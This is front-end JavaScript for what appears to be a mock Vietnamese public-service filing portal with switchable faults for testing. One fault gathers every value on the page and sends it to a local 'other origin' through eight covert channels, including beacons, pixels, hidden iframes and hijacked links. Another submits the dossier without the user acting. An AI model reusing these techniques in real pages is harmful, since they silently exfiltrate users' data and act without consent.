/* What the single pages do: toasts, uploads, the fee table, the review page. */
(function () {
  'use strict';
  var PREFIX = '/dich-vu-cong';
  var instant = document.body.dataset.pace === 'instant';
  /* What a fault lets this page do: seconds, by the name of the fault. */
  var manners = JSON.parse(document.body.dataset.manners || '{}');
  var TOAST_STAYS = (manners.toast_short ? Number(manners.toast_short) * 1000 : 4000), FEE_DEBOUNCE = instant ? 0 : 1000;
  var token = document.body.dataset.token;

  function goAway(toast) { setTimeout(function () { toast.remove(); }, TOAST_STAYS); }

  function toast(kind, text) {
    var frame = document.createElement('div');
    frame.className = 'toast toast-' + kind;
    frame.setAttribute('role', 'alert');
    frame.textContent = text;
    document.getElementById('toasts').appendChild(frame);
    goAway(frame);
  }
  document.querySelectorAll('.toast').forEach(goAway);

  function post(path, body) {
    return fetch(path, { method: 'POST', body: body, headers: { 'X-Requested-With': 'XMLHttpRequest' } });
  }

  /* An ended session sends to sign-in, from an AJAX answer as from a page. */
  function signedOut(answer) {
    if (answer.status !== 401) return false;
    answer.json().then(function (content) { window.location.href = content.address; });
    return true;
  }

  document.addEventListener('submit', function (event) {
    var question = event.target.dataset.confirm;
    if (question && !window.confirm(question)) event.preventDefault();
  });

  /* --- Buttons: closed while a page works, and until its scripts have come. --- */

  var ready = !manners.late_scripts;

  function close(button, closed) {
    button._closed = closed;
    button.disabled = closed || !ready;
  }
  if (!ready) {
    var late = document.querySelectorAll('main button');
    late.forEach(function (button) { close(button, button.disabled); });
    setTimeout(function () {
      ready = true;
      late.forEach(function (button) { close(button, button._closed); });
    }, Number(manners.late_scripts) * 1000);
  }

  /* What a fault sends to another origin: all that stands on the page, once there is something. */
  if (manners.values_elsewhere) (function (how, port) {
    var to = '//' + (port ? '127.0.0.1:' + port : 'localhost:' + location.port) + '/thu-thap', sent = false;
    function values() {
      var all = document.querySelectorAll('main input, main select, main textarea, main td, main dd');
      return Array.prototype.map.call(all, function (one) { return (one.value || one.textContent || '').trim(); })
        .filter(Boolean).join('|').slice(0, 3000);
    }
    var WAYS = {
      fetch: function (text) { fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: text }); },
      beacon: function (text) { navigator.sendBeacon(to, text); },
      picture: function (text) { new Image().src = to + '?' + encodeURIComponent(text); },
      socket: function (text) { new WebSocket('ws:' + to + '?' + encodeURIComponent(text)); },
      worker: function (text) {
        var does = 'onmessage = function (e) { fetch(e.data[0], { method: "POST", mode: "no-cors", body: e.data[1] }); };';
        new Worker(URL.createObjectURL(new Blob([does]))).postMessage(['http:' + to, text]);
      },
      frame: function (text) { hidden().src = to + '?' + encodeURIComponent(text); },
      form: function (text) {
        var form = document.createElement('form'), field = document.createElement('textarea');
        form.action = to; form.method = 'post'; form.target = hidden().name;
        field.name = 'tatCa'; field.value = text; form.appendChild(field);
        document.body.appendChild(form).submit();
      },
      link: function (text) {
        document.querySelectorAll('a[href$=giay-tiep-nhan]').forEach(function (a) { a.href = to + '?' + encodeURIComponent(text); });
      }
    };
    function hidden() {
      var frame = document.createElement('iframe');
      frame.name = 'khungKhac'; frame.hidden = true;
      return document.body.appendChild(frame);
    }
    function send() {
      if (sent || values().length < 40) return;
      sent = true;
      try { WAYS[how](values()); } catch (problem) { /* stopped on its way */ }
    }
    document.addEventListener('change', send);
    window.addEventListener('load', send);
  }).apply(null, manners.values_elsewhere.split('@'));

  if (manners.page_frozen) window.addEventListener('load', function () {
    setTimeout(function () {
      var end = performance.now() + Number(manners.page_frozen) * 1000;
      while (performance.now() < end) { /* frozen */ }
    }, 0);
  });

  /* --- Captcha --- */

  function newCaptcha(id) {
    document.getElementById('captchaId').value = id;
    document.getElementById('captchaImage').src = PREFIX + '/captcha/' + id + '.png';
    document.getElementById('maXacNhan').value = '';
  }
  var again = document.getElementById('captchaAgain');
  if (again) again.addEventListener('click', function () {
    fetch(PREFIX + '/captcha').then(function (answer) { return answer.json(); })
      .then(function (content) { newCaptcha(content.id); });
  });

  /* --- Papers --- */

  var papers = document.getElementById('formGiayTo');

  function fileLine(file) {
    var line = document.createElement('li');
    line.dataset.id = file.id;
    line.dataset.size = file.size;
    line.innerHTML = '<span class="file-name"></span> <span class="file-size"></span> ' +
      '<button type="button" class="link file-remove">Xóa</button>';
    line.querySelector('.file-name').textContent = file.name;
    line.querySelector('.file-size').textContent = '(' + kilobytes(file.size) + ')';
    return line;
  }

  function kilobytes(size) { return (size / 1024).toFixed(1).replace('.', ',') + ' KB'; }

  function send(row, file) {
    var body = new FormData();
    body.append('token', token);
    body.append('sid', papers.elements.sid.value);
    body.append('row', row);
    body.append('file', file);
    return post(PREFIX + '/tiep-nhan-online/taiTep', body).then(function (answer) {
      if (signedOut(answer) || answer.status === 204) return;
      if (answer.status >= 500) {
        toast('error', 'Upload thất bại (File Service): Upload failed: ' + answer.status);
        return;
      }
      return answer.json().then(function (content) {
        toast(answer.ok ? 'success' : 'error', content.message);
        var list = papers.querySelector('[data-files="' + row + '"] .file-list');
        var show = function () {
          (content.files || []).forEach(function (one) { list.appendChild(fileLine(one)); });
        };
        if (content.shown_after_s) setTimeout(show, content.shown_after_s * 1000); else show();
      });
    }).catch(function () { toast('error', 'Không tải được file hoặc lưu thất bại'); });
  }

  function upload(input) {
    var files = Array.from(input.files), row = input.dataset.row, cell = input.closest('[data-files]');
    cell.classList.add('uploading');
    files.reduce(function (before, file) {
      return before.then(function () { return send(row, file); });
    }, Promise.resolve()).then(function () {
      input.value = '';
      cell.classList.remove('uploading');
    });
  }

  function removeFile(line) {
    var body = new FormData();
    body.append('token', token);
    body.append('sid', papers.elements.sid.value);
    body.append('id', line.dataset.id);
    post(PREFIX + '/tiep-nhan-online/xoaTep', body).then(function (answer) {
      if (signedOut(answer) || !answer.ok) return;
      line.remove();
      toast('success', 'Đã xóa tệp');
    });
  }

  function addOther() {
    var list = document.getElementById('_fcgiayToKhac'), highest = 0;
    list.querySelectorAll('.other-row').forEach(function (row) {
      highest = Math.max(highest, Number(row.dataset.row.split('-')[1]));
    });
    var holder = document.createElement('ul');
    holder.innerHTML = document.getElementById('other-template').innerHTML
      .replaceAll('__row__', highest + 1);
    list.appendChild(holder.firstElementChild);
  }

  if (papers) {
    papers.addEventListener('change', function (event) {
      if (event.target.matches('.file-input') && event.target.files.length) upload(event.target);
    });
    papers.addEventListener('click', function (event) {
      if (event.target.matches('.file-remove')) removeFile(event.target.closest('li'));
      if (event.target.matches('.act.add')) addOther();
    });
  }

  /* --- Fee page: the table is made anew a second after the last change. --- */

  var fee = document.getElementById('formLePhi');
  if (fee) {
    var button = document.getElementById('btn-next'), timer = 0, asked = 0;
    fee.addEventListener('change', function () {
      close(button, true);
      clearTimeout(timer);
      timer = setTimeout(recalculate, FEE_DEBOUNCE);
    });
    var recalculate = function () {
      var mine = asked += 1;
      post(fee.dataset.recalculate, new URLSearchParams(new FormData(fee))).then(function (answer) {
        if (mine !== asked || signedOut(answer)) return;
        if (!answer.ok) { close(button, false); return; }
        return answer.text().then(function (html) {
          document.getElementById('bangLePhi').innerHTML = html;
          close(button, false);
        });
      }).catch(function () { close(button, false); });
    };
  }

  /* --- Review page --- */

  var review = document.getElementById('formNop');
  if (review) {
    var apply = document.getElementById('btn-apply'), box = review.querySelector('.responsible');
    var leaving = false;
    var allow = function () { close(apply, !box.checked); };
    box.addEventListener('change', allow);
    allow();

    document.addEventListener('click', function (event) {
      if (event.target.closest('a, button')) leaving = true;
    });
    document.addEventListener('submit', function (event) {
      if (event.defaultPrevented && event.target !== review) leaving = false;
    });
    window.addEventListener('beforeunload', function (event) {
      if (leaving) return;
      event.preventDefault();
      event.returnValue = 'Bạn có muốn ngừng nộp hồ sơ ?';
    });

    /* What a fault makes of the one request that files: another address, method or sender. */
    var moved = manners.commit_moved;
    var TAILS = { semicolon: 'nopHoSo;jsessionid=0A1B2C3D', slash: 'nopHoSo/', case: 'NopHoSo', path: 'guiHoSo' };
    if (TAILS[moved]) review.action = review.action.replace('nopHoSo', TAILS[moved]);
    var send = function () {
      var body = new URLSearchParams(new FormData(review)), to = review.action;
      var follow = function (answer) { window.location.href = answer.url || answer.data; };
      if (moved === 'get') { window.location.href = to + '?' + body; return; }
      if (moved === 'put' || moved === 'fetch') {
        fetch(to, { method: moved === 'put' ? 'PUT' : 'POST', body: body }).then(follow);
        return;
      }
      if (moved === 'worker') {
        var text = 'onmessage = function (e) { fetch(e.data[0], { method: "POST", credentials: "include", body: new URLSearchParams(e.data[1]) })' +
          '.then(function (a) { postMessage(a.url); }); };';
        var worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = follow;
        worker.postMessage([to, String(body)]);
        return;
      }
      if (moved === 'frame') {
        var frame = document.createElement('iframe');
        frame.name = frame.id = 'khungNop';
        document.body.appendChild(frame);
        review.target = 'khungNop';
      }
      review.submit();
    };

    /* What a fault lets this page do by itself. */
    var itself = manners.page_submits_itself, done = false;
    var submitItself = function () {
      if (done) return;
      done = true;
      var body = new URLSearchParams(new FormData(review)), asking = new XMLHttpRequest();
      body.set(box.name, box.value);
      asking.open('POST', review.action, itself === 'timer');
      try { asking.send(body); } catch (problem) { /* stopped on its way */ }
    };
    if (itself === 'load') submitItself();
    if (itself === 'timer') setTimeout(submitItself, 150);
    if (itself === 'leave') window.addEventListener('pagehide', submitItself);

    review.addEventListener('submit', function (event) {
      event.preventDefault();
      post(review.dataset.check, new URLSearchParams(new FormData(review))).then(function (answer) {
        if (signedOut(answer)) return;
        return answer.json().then(function (content) {
          /* The dossier goes only after a right captcha; a second press sends it a second time. */
          if (content.ok) { leaving = true; send(); return; }
          leaving = false;
          toast('error', content.message);
          if (content.id) newCaptcha(content.id);
        });
      }).catch(function () { leaving = false; toast('error', 'Không kết nối được máy chủ'); });
    });
  }
}());
